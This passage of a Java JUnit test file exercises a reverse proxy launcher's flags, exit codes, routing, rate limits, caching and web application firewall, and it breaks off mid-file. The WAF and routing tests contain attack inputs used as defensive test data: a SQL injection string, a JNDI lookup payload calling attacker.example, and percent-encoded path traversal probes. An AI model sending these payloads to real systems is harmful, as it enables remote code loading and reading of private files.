package dev.proxy4j.examples;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.eclipse.jetty.server.Server;
import org.junit.jupiter.api.Test;

/** The launcher as a user runs it: a separate JVM, flags on the command line, exit codes. */
class LauncherTest {

    private static Process launch(String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-cp", System.getProperty("java.class.path"), Launcher.class.getName()));
        command.addAll(List.of(args));
        return new ProcessBuilder(command).redirectErrorStream(true).start();
    }

    private static String finish(Process process) throws Exception {
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
        return output;
    }

    @Test
    void documentsEveryFlagUnderHelp() throws Exception {
        Process process = launch("--help");
        String output = finish(process);

        assertThat(process.exitValue()).isZero();
        assertThat(output).contains("--port", "--host", "--upstream", "--route", "--upstream-http2", "--lb", "--retries",
                "--max-connections", "--max-body-size", "--max-header-count", "--allow-underscores-in-headers",
                "--allow-trace", "--allow-path-parameters", "--h2c-upgrade", "--no-merge-slashes", "--escaped-slashes", "--trusted-proxy",
                "--no-access-log", "--tcp", "--proxy-protocol", "--tls-port", "--cert", "--key", "--sni-passthrough", "--allow", "--deny", "--security-headers",
                "--health-check", "--rate-limit RATE[,burst=N][,nodelay][,key=ip|header:NAME]", "--max-conns-per-ip N",
                "--compress", "--static", "--cache", "--access-log-format", "--admin-port", "--waf detect|block",
                "--strip-prefix", "--connect-timeout", "--response-timeout", "--idle-timeout", "--pass-backend-identity");
    }

    @Test
    void exitsWith2AndNamesTheFlagWhenAFlagIsUnknown() throws Exception {
        Process process = launch("run", "--upstream", "http://127.0.0.1:9", "--bogus");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: unknown flag '--bogus'");
    }

    @Test
    void exitsWith2AndNamesTheValueWhenAnUpstreamIsNotAUri() throws Exception {
        Process process = launch("run", "--port", "0", "--upstream", "ftp://nowhere");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: endpoint: \"ftp://nowhere\"");
    }

    @Test
    void exitsWith2AndNamesTheFlagAndTheValueWhenTheBalancerIsUnknown() throws Exception {
        Process process = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--lb", "ring-hash:host");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --lb: \"ring-hash:host\" (expected: round-robin, weighted-round-robin,"
                + " random, least-requests, p2c, ring-hash:KEY, maglev:KEY or sticky-cookie:NAME, where KEY is ip, path,"
                + " header:NAME, cookie:NAME or query:NAME)");
    }

    @Test
    void proxyProtocolGoesToTheHttpUpstreamsAsWellAsTheTcpListeners() throws Exception {
        Process printed = launch("run", "--print-config", "--upstream", "http://127.0.0.1:9", "--tcp", "7000=127.0.0.1:5432",
                "--proxy-protocol", "v2");

        String config = finish(printed);
        assertThat(config).contains("""
                      endpoints:
                        - http://127.0.0.1:9
                      proxyProtocol: v2
                """);
        assertThat(config).contains("""
                    upstream: 127.0.0.1:5432
                    proxyProtocol: v2
                """);
    }

    @Test
    void healthCheckTcpIsATcpConnectCheckForEveryUpstreamAndTcpListenersGetTheFlagsCheckToo() throws Exception {
        Process tcp = launch("run", "--print-config", "--upstream", "http://127.0.0.1:9", "--tcp", "7000=127.0.0.1:5432",
                "--health-check", "tcp,interval=2s,fall=2");
        Process plain = launch("run", "--print-config", "--tcp", "7000=127.0.0.1:5432", "--health-check", "tcp");
        Process path = launch("run", "--print-config", "--tcp", "7000=127.0.0.1:5432", "--health-check", "/health");

        String printed = finish(tcp);
        assertThat(printed).contains("""
                    upstream:
                      endpoints:
                        - http://127.0.0.1:9
                      healthCheck:
                        type: tcp
                        interval: 2s
                        fall: 2
                tcp:
                """);
        assertThat(printed).contains("""
                    port: 7000
                    upstream:
                      endpoints:
                        - http://127.0.0.1:5432
                      healthCheck:
                        type: tcp
                        interval: 2s
                        fall: 2
                """);
        assertThat(finish(plain)).contains("""
                      healthCheck: tcp
                """);
        // Run as a TCP connect all the same: the proxy forwards raw TCP to it.
        assertThat(finish(path)).contains("""
                      healthCheck: /health
                """);
        Process refused = launch("run", "--port", "0", "--tcp", "7000=127.0.0.1:5432", "--health-check", "tcp,path=/h");
        assertThat(finish(refused)).contains("proxy4j: --health-check: \"tcp,path=/h\" (expected: PATH or tcp");
        assertThat(refused.exitValue()).isEqualTo(2);
    }

    @Test
    void exitsWith2AndNamesTheFlagAndTheValueWhenTheHealthCheckIsMalformed() throws Exception {
        Process unknown = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--health-check",
                "/health,inter=2s");
        Process relative = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--health-check", "health");
        Process badRise = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--health-check",
                "/health,rise=0");
        Process badInterval = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--health-check",
                "/health,interval=0s");

        String expected = " (expected: PATH or tcp, then [,interval=1s][,timeout=1s][,rise=2][,fall=3], such as"
                + " /health,interval=2s,fall=2 or tcp,interval=2s)";
        assertThat(finish(unknown)).contains("proxy4j: --health-check: \"/health,inter=2s\"" + expected);
        assertThat(unknown.exitValue()).isEqualTo(2);
        assertThat(finish(relative)).contains("proxy4j: --health-check: \"health\"" + expected);
        assertThat(finish(badRise)).contains("proxy4j: --health-check rise: \"0\" (expected: a number 1..100)");
        assertThat(finish(badInterval)).contains(
                "proxy4j: --health-check interval: \"0s\" (expected: a positive duration such as 500ms or 2s)");
        assertThat(badInterval.exitValue()).isEqualTo(2);
    }

    @Test
    void healthCheckFlagTakesABackendThatFailsItsChecksOutOfRotationAndBringsItBack() throws Exception {
        Server a = Quickstart.demoBackend("a");
        java.util.concurrent.atomic.AtomicBoolean bHealthy = new java.util.concurrent.atomic.AtomicBoolean(true);
        Server b = HealthExample.switchableBackend("b", bHealthy);
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log",
                "--upstream", Quickstart.uri(a), "--upstream", Quickstart.uri(b),
                // A timeout far above the interval: a first check of a slow at start (a loaded machine) must not
                // take a out too, or panic routing would send to b while both are down.
                "--health-check", "/health,interval=100ms,timeout=5s,rise=2,fall=2");
        List<String> output = pump(process);
        try {
            String announced = awaitLine(output, "proxy4j listening on port ");
            URI base = URI.create("http://127.0.0.1:" + announced.substring("proxy4j listening on port ".length()));

            bHealthy.set(false);
            // Lines from now on only: a first check slower than the timeout may have taken one down at start.
            int from = output.size();
            assertThat(awaitLineAfter(output, from, Quickstart.uri(b) + " is down")).contains("the last: status 503");
            for (int i = 0; i < 10; i++) {
                assertThat(Http.get(base, "/x").body()).startsWith("a got GET /x");
            }

            bHealthy.set(true);
            awaitLineAfter(output, output.size(), Quickstart.uri(b) + " is up again");
            List<String> answers = new ArrayList<>();
            for (int i = 0; i < 4; i++) {
                answers.add(Http.get(base, "/x").body().substring(0, 1));
            }
            assertThat(answers).contains("a", "b");
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            a.stop();
            b.stop();
        }
    }

    @Test
    void logsOnceABackendThatFailsEvenWhenRetriesHideItFromClients() throws Exception {
        Server a = Quickstart.demoBackend("a");
        int closed;
        try (java.net.ServerSocket socket = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            closed = socket.getLocalPort();
        }
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log",
                "--upstream", Quickstart.uri(a), "--upstream", "http://127.0.0.1:" + closed);
        List<String> output = pump(process);
        try {
            String announced = awaitLine(output, "proxy4j listening on port ");
            URI base = URI.create("http://127.0.0.1:" + announced.substring("proxy4j listening on port ".length()));
            for (int i = 0; i < 12; i++) {
                HttpResponse<String> response = Http.get(base, "/x");
                assertThat(response.statusCode()).as("retried on a").isEqualTo(200);
            }

            assertThat(awaitLine(output, "is failing")).contains("endpoint http://127.0.0.1:" + closed
                    + " is failing: 3 gateway failures in a row, the last: CONNECT_REFUSED");
            assertThat(output.stream().filter(line -> line.contains("is failing"))).hasSize(1);
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            a.stop();
        }
    }

    /** Collects the launcher's output lines as they come. */
    private static List<String> pump(Process process) {
        List<String> output = new CopyOnWriteArrayList<>();
        Thread pump = new Thread(() -> {
            try (BufferedReader out = new BufferedReader(
                    new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8))) {
                for (String line; (line = out.readLine()) != null; ) {
                    output.add(line);
                }
            } catch (java.io.IOException e) {
                output.add(e.toString());
            }
        });
        pump.setDaemon(true);
        pump.start();
        return output;
    }

    @Test
    void exitsWith1AndSaysWhyWhenThePortIsTaken() throws Exception {
        try (java.net.ServerSocket taken = new java.net.ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress())) {
            Process process = launch("run", "--host", "127.0.0.1", "--port", Integer.toString(taken.getLocalPort()),
                    "--upstream", "http://127.0.0.1:9");
            String output = finish(process);

            assertThat(process.exitValue()).isEqualTo(1);
            assertThat(output).contains("proxy4j: proxy failed to start: Failed to bind to /127.0.0.1:" + taken.getLocalPort()
                    + " (address already in use)").doesNotContain("\tat ");
        }
    }

    @Test
    void exitsWith2AndNamesTheValueWhenAnEscapedSlashesActionIsUnknown() throws Exception {
        Process process = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--escaped-slashes", "allow");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --escaped-slashes: \"allow\" (expected: one of reject, keep, decode)");
    }

    @Test
    void aPercentEncodedPathCannotWalkAroundARoute() throws Exception {
        Server privateBackend = Quickstart.demoBackend("private");
        Server publicBackend = Quickstart.demoBackend("public");
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1",
                "--route", "/private=" + Quickstart.uri(privateBackend), "--upstream", Quickstart.uri(publicBackend));
        List<String> output = new CopyOnWriteArrayList<>();
        Thread pump = new Thread(() -> {
            try (BufferedReader out = new BufferedReader(
                    new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8))) {
                for (String line; (line = out.readLine()) != null; ) {
                    output.add(line);
                }
            } catch (java.io.IOException e) {
                output.add(e.toString());
            }
        });
        pump.start();
        try {
            String announced = awaitLine(output, "proxy4j listening on port ");
            int port = Integer.parseInt(announced.substring("proxy4j listening on port ".length()));

            String encoded = raw(port, "GET /%70rivate/x HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
            String slash = raw(port, "GET /public%2F..%2Fprivate/x HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");

            assertThat(encoded).contains("private got GET /private/x");
            assertThat(slash).startsWith("HTTP/1.1 400 ").endsWith("encoded slash or backslash in path\n");
            assertThat(awaitLine(output, "refused=")).contains("\"GET /public%2F..%2Fprivate/x HTTP/1.1\" 400 ")
                    .endsWith(" refused=escaped_slash");
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            pump.join(10_000);
            privateBackend.stop();
            publicBackend.stop();
        }
    }

    private static String raw(int port, String request) throws Exception {
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", port)) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        }
    }

    @Test
    void exitsWith2WhenNoBackendIsGiven() throws Exception {
        Process process = launch("run", "--port", "0");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: no backend");
    }

    @Test
    void runsAReverseProxyWithRoutesAndACatchAllAndLogsEachRequest() throws Exception {
        Server api = Quickstart.demoBackend("api");
        Server web = Quickstart.demoBackend("web");
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1",
                "--route", "/api=" + Quickstart.uri(api), "--upstream", Quickstart.uri(web));
        List<String> output = new CopyOnWriteArrayList<>();
        Thread pump = new Thread(() -> {
            try (BufferedReader out = new BufferedReader(
                    new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8))) {
                for (String line; (line = out.readLine()) != null; ) {
                    output.add(line);
                }
            } catch (java.io.IOException e) {
                output.add(e.toString());
            }
        });
        pump.start();
        try {
            String announced = awaitLine(output, "proxy4j listening on port ");
            int port = Integer.parseInt(announced.substring("proxy4j listening on port ".length()));

            HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                    .connectTimeout(Duration.ofSeconds(5)).build();
            HttpResponse<String> toApi = client.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/users"))
                    .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
            HttpResponse<String> toWeb = client.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/index.html"))
                    .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());

            assertThat(toApi.body()).startsWith("api got GET /api/users (X-Forwarded-For: 127.0.0.1)");
            assertThat(toWeb.body()).startsWith("web got GET /index.html");
            assertThat(awaitLine(output, "\"GET /api/users HTTP/1.1\""))
                    .contains("access - 127.0.0.1 \"GET /api/users HTTP/1.1\" 200 ")
                    .contains(" upstream=" + Quickstart.uri(api).substring("http://".length()) + " upstream_status=200 rid=");

            try (java.net.Socket socket = new java.net.Socket("127.0.0.1", port)) {
                socket.getOutputStream().write("GET /bad HTTP/1.1\r\nHost: a\r\nBad Header\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
                socket.getInputStream().readAllBytes();
            }
            assertThat(awaitLine(output, " 400 16 ")).as("a request Jetty refused is logged too")
                    .contains("access - 127.0.0.1 \"GET /bad HTTP/1.1\" 400 16 ");
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            pump.join(10_000);
            api.stop();
            web.stop();
        }
    }

    @Test
    void balancesWithTheFlagsBalancerStickyCookiesHere() throws Exception {
        Server a = Quickstart.demoBackend("a");
        Server b = Quickstart.demoBackend("b");
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log",
                "--upstream", Quickstart.uri(a), "--upstream", Quickstart.uri(b), "--lb", "sticky-cookie:srv");
        BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
        try {
            URI base = URI.create("http://127.0.0.1:" + announcedPort(out));

            HttpResponse<String> first = Http.get(base, "/x");
            String setCookie = first.headers().firstValue("Set-Cookie").orElseThrow();
            assertThat(setCookie).matches("srv=[0-9a-f]{16}; Path=/; HttpOnly");
            String backend = first.body().substring(0, 1);
            for (int i = 0; i < 6; i++) {
                HttpResponse<String> again = Http.get(base, "/x", "Cookie", setCookie.substring(0, setCookie.indexOf(';')));
                assertThat(again.body()).startsWith(backend + " got GET /x");
                assertThat(again.headers().firstValue("Set-Cookie")).isEmpty();
            }
            // Without the cookie, weighted round-robin takes turns.
            assertThat(Http.get(base, "/x").body()).doesNotStartWith(backend);
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            a.stop();
            b.stop();
        }
    }

    /** Waits up to 20 s for a line from index {@code from} on containing {@code text}; fails showing what was printed. */
    private static String awaitLineAfter(List<String> output, int from, String text) throws InterruptedException {
        for (int i = 0; i < 200; i++) {
            for (int line = from; line < output.size(); line++) {
                if (output.get(line).contains(text)) {
                    return output.get(line);
                }
            }
            Thread.sleep(100);
        }
        throw new AssertionError("expected a line containing " + text + " but the launcher printed: " + output);
    }

    @Test
    void triesABackendAsOftenAsRetriesSaysAfterThe503sItAnswers() throws Exception {
        HttpServer busy = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        AtomicInteger received = new AtomicInteger();
        busy.createContext("/", exchange -> {
            received.incrementAndGet();
            byte[] body = "busy".getBytes(StandardCharsets.US_ASCII);
            exchange.sendResponseHeaders(503, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        busy.start();
        String backend = "http://127.0.0.1:" + busy.getAddress().getPort();
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log",
                "--upstream", backend, "--retries", "4");
        BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
        try {
            URI base = URI.create("http://127.0.0.1:" + announcedPort(out));

            HttpResponse<String> get = Http.get(base, "/x");
            assertThat(get.statusCode()).isEqualTo(503);
            assertThat(get.body()).isEqualTo("busy");
            assertThat(received.get()).as("the first attempt and 4 retries").isEqualTo(5);

            HttpResponse<String> post = HttpClient.newHttpClient().send(HttpRequest.newBuilder(base.resolve("/x"))
                    .POST(HttpRequest.BodyPublishers.ofString("order")).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(post.statusCode()).isEqualTo(503);
            assertThat(received.get()).as("a POST is not sent twice").isEqualTo(6);
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            busy.stop(0);
        }

        Process printed = launch("run", "--print-config", "--upstream", backend, "--retries", "4");
        assertThat(finish(printed)).contains("retry: 4");
        Process refused = launch("run", "--port", "0", "--upstream", backend, "--retries", "10");
        assertThat(finish(refused)).contains("proxy4j: --retries: \"10\" (expected: a number 0..9)");
        assertThat(refused.exitValue()).isEqualTo(2);
    }

    @Test
    void rateLimitFlagsAnswer429BeyondTheBurstPerKeyWithRetryAfter() throws Exception {
        Server backend = Quickstart.demoBackend("api");
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log",
                "--rate-limit", "1r/m,burst=2,nodelay,key=header:X-Api-Key", "--rate-limit", "600r/m,burst=50",
                "--upstream", Quickstart.uri(backend));
        BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
        try {
            URI base = URI.create("http://127.0.0.1:" + announcedPort(out));
            List<Integer> alpha = new ArrayList<>();
            HttpResponse<String> rejected = null;
            for (int i = 0; i < 4; i++) {
                HttpResponse<String> response = Http.get(base, "/x", "X-Api-Key", "alpha");
                alpha.add(response.statusCode());
                rejected = response;
            }

            assertThat(alpha).containsExactly(200, 200, 200, 429);
            assertThat(rejected.headers().firstValue("Retry-After")).hasValueSatisfying(
                    seconds -> assertThat(Integer.parseInt(seconds)).isBetween(1, 60));
            assertThat(rejected.headers().firstValue("RateLimit-Policy")).hasValue("\"header:X-Api-Key-1r/m\";q=1;w=60");
            assertThat(Http.get(base, "/x", "X-Api-Key", "beta").statusCode()).as("a key of its own").isEqualTo(200);
            assertThat(Http.get(base, "/x").statusCode()).as("no key: only the limit by address").isEqualTo(200);
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            backend.stop();
        }
    }

    @Test
    void maxConnsPerIpClosesTheConnectionOverTheLimitAndAdmitsOneAfterAClose() throws Exception {
        Server backend = Quickstart.demoBackend("api");
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log",
                "--max-conns-per-ip", "1", "--upstream", Quickstart.uri(backend));
        BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
        try {
            int port = announcedPort(out);
            try (java.net.Socket held = new java.net.Socket("127.0.0.1", port)) {
                held.setSoTimeout(10_000);
                held.getOutputStream().write("GET /a HTTP/1.1\r\nHost: a\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
                assertThat(held.getInputStream().read()).as("the first connection is answered").isEqualTo('H');

                assertThat(rawOrNothing(port, "GET /b HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"))
                        .as("the second is closed unanswered").isEmpty();
            }
            String answered = "";
            for (int i = 0; i < 250 && answered.isEmpty(); i++) {
                answered = rawOrNothing(port, "GET /c HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
                Thread.sleep(answered.isEmpty() ? 20 : 0);
            }
            assertThat(answered).startsWith("HTTP/1.1 200 ").contains("api got GET /c");
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            backend.stop();
        }
    }

    @Test
    void exitsWith2AndNamesTheFlagWhenARateLimitIsMalformed() throws Exception {
        Process process = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--rate-limit", "10r/h,burst=5");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --rate-limit: \"10r/h,burst=5\": rate: \"10r/h\" (expected: requests per"
                + " second or minute, as 10r/s or 600r/m)");
    }

    @Test
    void wafFlagBlocksAnAttackWith403AndLetsOrdinaryRequestsThrough() throws Exception {
        Server backend = Quickstart.demoBackend("api");
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log", "--waf", "block",
                "--upstream", Quickstart.uri(backend));
        BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
        try {
            URI base = URI.create("http://127.0.0.1:" + announcedPort(out));
            List<String> output = new java.util.concurrent.CopyOnWriteArrayList<>();
            Thread reader = new Thread(() -> out.lines().forEach(output::add));
            reader.setDaemon(true);
            reader.start();
            HttpResponse<String> attack = Http.get(base, "/search?q=%27%20OR%20%271%27%3D%271");
            assertThat(attack.statusCode()).isEqualTo(403);
            assertThat(attack.body()).isEqualTo("403 Forbidden\nrequest blocked\n");
            assertThat(attack.headers().firstValue("X-Request-Id")).isPresent();
            assertThat(Http.get(base, "/x", "User-Agent", "${jndi:ldap://attacker.example/a}").statusCode()).isEqualTo(403);
            HttpResponse<String> ordinary = Http.get(base, "/search?q=O%27Brien");
            assertThat(ordinary.statusCode()).isEqualTo(200);
            assertThat(ordinary.body()).contains("api got GET /search");
            // every match, once per request, with its rule id, score and the part it matched in
            assertThat(awaitLine(output, "waf blocked GET /search request=")).contains("sqli-110 +5 query:q \"' or '1'=\"");
            assertThat(awaitLine(output, "waf blocked GET /x request="))
                    .contains("lookup-100 +5 header:User-Agent \"${jndi:ldap://attacker.example/a}\"");
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            backend.stop();
        }
    }

    @Test
    void wafFlagIsPrintedAsTheConfigFilesKeyAndABadModeIsNamed() throws Exception {
        Process printed = launch("run", "--print-config", "--upstream", "http://127.0.0.1:9", "--waf", "detect",
                "--pass-backend-identity");
        String config = finish(printed);
        assertThat(printed.exitValue()).isZero();
        assertThat(config).contains("waf: detect", "backendIdentity: pass");

        Process refused = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--waf", "deny");
        String output = finish(refused);
        assertThat(refused.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --waf: \"deny\" (expected: detect or block)");
    }

    /** What the proxy answered, or nothing when it closed or reset the connection unanswered. */
    private static String rawOrNothing(int port, String request) throws Exception {
        try {
            return raw(port, request);
        } catch (java.net.SocketException e) {
            return "";
        }
    }

    private static int announcedPort(BufferedReader out) throws java.io.IOException {
        String announced = out.readLine();
        while (announced != null && !announced.startsWith("proxy4j listening on port ")) {
            announced = out.readLine();
        }
        assertThat(announced).as("the launcher's announcement").isNotNull();
        return Integer.parseInt(announced.substring("proxy4j listening on port ".length()));
    }

    @Test
    void servesStaticFilesAndCompressesWithTheFlags(@org.junit.jupiter.api.io.TempDir Path dir) throws Exception {
        Path assets = java.nio.file.Files.createDirectory(dir.resolve("assets"));
        String css = "body { margin: 0; padding: 0; color: #333; }\n".repeat(200);
        java.nio.file.Files.writeString(assets.resolve("app.css"), css);
        java.nio.file.Files.writeString(assets.resolve("app.js"), "console.log('identity')");
        byte[] precompressed = {0x0b, 0x01, (byte) 0x80, 0x01, 0x02, 0x03};
        java.nio.file.Files.write(assets.resolve("app.js.br"), precompressed);
        java.nio.file.Files.writeString(dir.resolve("secret.txt"), "not served");
        Server web = Quickstart.demoBackend("web");
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log", "--compress",
                "--static", "/assets=" + assets, "--upstream", Quickstart.uri(web));
        BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
        try {
            URI base = URI.create("http://127.0.0.1:" + announcedPort(out));
            HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

            HttpResponse<byte[]> gzipped = client.send(HttpRequest.newBuilder(base.resolve("/assets/app.css"))
                    .header("Accept-Encoding", "gzip").build(), HttpResponse.BodyHandlers.ofByteArray());
            assertThat(gzipped.headers().firstValue("Content-Encoding")).contains("gzip");
            assertThat(gzipped.headers().firstValue("Vary")).contains("Accept-Encoding");
            assertThat(new String(new java.util.zip.GZIPInputStream(new java.io.ByteArrayInputStream(gzipped.body()))
                    .readAllBytes(), StandardCharsets.UTF_8)).isEqualTo(css);
            HttpResponse<byte[]> sibling = client.send(HttpRequest.newBuilder(base.resolve("/assets/app.js"))
                    .header("Accept-Encoding", "gzip, br").build(), HttpResponse.BodyHandlers.ofByteArray());
            assertThat(sibling.headers().firstValue("Content-Encoding")).contains("br");
            assertThat(sibling.body()).isEqualTo(precompressed);
            HttpResponse<String> range = client.send(HttpRequest.newBuilder(base.resolve("/assets/app.css"))
                    .header("Range", "bytes=0-3").build(), HttpResponse.BodyHandlers.ofString());
            assertThat(range.statusCode()).isEqualTo(206);
            assertThat(range.body()).isEqualTo("body");
            assertThat(Http.get(base, "/other").body()).startsWith("web got GET /other");
            assertThat(raw(base.getPort(), "GET /assets/%2e%2e/secret.txt HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"))
                    .doesNotContain("not served");
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            web.stop();
        }
    }

    @Test
    void printsTheStaticAndCompressFlagsAsTheFileWouldHoldThem(@org.junit.jupiter.api.io.TempDir Path dir) throws Exception {
        Path site = java.nio.file.Files.createDirectory(dir.resolve("site"));
        Path assets = java.nio.file.Files.createDirectory(dir.resolve("assets"));
        Process process = launch("run", "--print-config", "--compress", "--static", "/=" + site,
                "--static", "/assets/=" + assets, "--route", "/api=http://127.0.0.1:9");
        String output = finish(process);

        assertThat(process.exitValue()).isZero();
        assertThat(output).contains("compression: true");
        int api = output.indexOf("pathPrefix: /api");
        int assetsRoute = output.indexOf("pathPrefix: /assets");
        int siteRoute = output.indexOf("root: " + site);
        assertThat(api).isPositive();
        assertThat(assetsRoute).isGreaterThan(api);
        assertThat(siteRoute).as("the longest prefix first").isGreaterThan(assetsRoute);
        assertThat(output).contains("stripPrefix: /assets", "root: " + assets);
    }

    @Test
    void exitsWith2AndNamesTheFlagWhenAStaticDirectoryIsNone() throws Exception {
        Process process = launch("run", "--port", "0", "--static", "/assets=/no/such/dir");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --static: \"/assets=/no/such/dir\" (expected: a directory after =;");
        Process malformed = launch("run", "--port", "0", "--static", "assets");
        assertThat(finish(malformed)).contains("proxy4j: --static: \"assets\" (expected: PREFIX=DIR such as /assets=./public)");
    }

    @Test
    void cacheFlagPutsASharedCacheOnEveryRoute() throws Exception {
        java.util.concurrent.atomic.AtomicInteger received = new java.util.concurrent.atomic.AtomicInteger();
        Server origin = new Server();
        org.eclipse.jetty.server.ServerConnector connector = new org.eclipse.jetty.server.ServerConnector(origin);
        connector.setHost("127.0.0.1");
        origin.addConnector(connector);
        origin.setHandler(new org.eclipse.jetty.server.Handler.Abstract.NonBlocking() {
            @Override
            public boolean handle(org.eclipse.jetty.server.Request request, org.eclipse.jetty.server.Response response,
                    org.eclipse.jetty.util.Callback callback) {
                int n = received.incrementAndGet();
                response.getHeaders().put("Cache-Control", "max-age=300");
                response.write(true, java.nio.ByteBuffer.wrap(("answer " + n).getBytes(StandardCharsets.UTF_8)),
                        callback);
                return true;
            }
        });
        origin.start();
        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log", "--cache", "64m",
                "--upstream", "http://127.0.0.1:" + connector.getLocalPort());
        BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
        try {
            URI base = URI.create("http://127.0.0.1:" + announcedPort(out));

            HttpResponse<String> first = Http.get(base, "/page");
            HttpResponse<String> second = Http.get(base, "/page");

            assertThat(first.body()).isEqualTo("answer 1");
            assertThat(second.body()).isEqualTo("answer 1");
            assertThat(second.headers().firstValue("Cache-Status")).hasValueSatisfying(
                    status -> assertThat(status).startsWith("proxy4j; hit; ttl="));
            assertThat(second.headers().firstValue("Age")).isPresent();
            assertThat(received.get()).as("the backend answered once").isEqualTo(1);
        } finally {
            process.destroy();
            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
            origin.stop();
        }
    }

    @Test
    void exitsWith2AndNamesTheValueWhenTheCacheSizeIsBad() throws Exception {
        Process process = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--cache", "lots");
        String output = finish(process);

        assertThat(process.exitValue()).isEqualTo(2);
        assertThat(output).contains("proxy4j: --cache: \"lots\" (expected: a size above 0 such as 64m)");
    }

    @Test
